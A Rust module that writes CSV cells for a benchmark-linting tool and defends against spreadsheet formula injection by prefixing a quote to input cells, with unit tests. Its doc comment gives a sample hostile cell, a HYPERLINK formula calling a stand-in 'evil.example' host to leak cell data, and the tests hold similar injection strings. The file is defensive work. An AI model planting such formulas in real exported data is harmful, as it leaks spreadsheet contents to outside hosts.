//! CSV cells (RFC 4180) as benchlint writes them: quoted when they have to be, and a cell
//! quoting an input can never be a live spreadsheet formula.
//!
//! Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell whose text starts with `=`,
//! `+`, `-` or `@` (and strip a leading tab or carriage return before looking), so a model name
//! `=HYPERLINK("https://evil.example/?"&A1)` would run when the summary is opened. Such a cell
//! is written with a leading `'`, the mark every spreadsheet reads as "text" (OWASP's advice for
//! CSV injection); benchlint's own cells (numbers, which may be negative) are left as they are.

use std::borrow::Cow;

/// A cell of benchlint's own (a number, a name it chose): quoted when it has to be.
pub fn field(s: &str) -> Cow<'_, str> {
    if s.contains([',', '"', '\n', '\r']) {
        Cow::Owned(format!("\"{}\"", s.replace('"', "\"\"")))
    } else {
        Cow::Borrowed(s)
    }
}

/// The text of a cell quoting an input, before [`field`] quotes it: secrets masked, hidden
/// characters and runner commands escaped (as [`super::line`]), a formula leader disarmed with
/// `'`.
pub fn input_text(s: &str) -> String {
    let shown = super::line(s);
    let first = shown.trim_start_matches(' ').chars().next();
    if first.is_some_and(is_formula_leader) {
        format!("'{shown}")
    } else {
        shown.into_owned()
    }
}

/// A whole cell quoting an input: [`input_text`], then [`field`].
pub fn input_field(s: &str) -> String {
    field(&input_text(s)).into_owned()
}

/// Whether a spreadsheet reads a cell starting with `c` as a formula.
fn is_formula_leader(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FE62}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_leaders_are_disarmed_in_input_cells_only() {
        assert_eq!(input_field("=1+2"), "'=1+2");
        assert_eq!(input_field("+cmd"), "'+cmd");
        assert_eq!(input_field("-2+3"), "'-2+3");
        assert_eq!(input_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(input_field("  =A1"), "'  =A1");
        // A tab or a carriage return is escaped first (`\t`), so the cell starts with `\`.
        assert_eq!(input_field("\t=A1"), "\\t=A1");
        assert_eq!(
            input_field("=HYPERLINK(\"https://e/\",\"x\")"),
            "\"'=HYPERLINK(\"\"https://e/\"\",\"\"x\"\")\""
        );
        assert_eq!(input_field("llama-3 8b"), "llama-3 8b");
        assert_eq!(field("-1.5"), "-1.5");
        assert_eq!(field("a,b"), "\"a,b\"");
    }
}
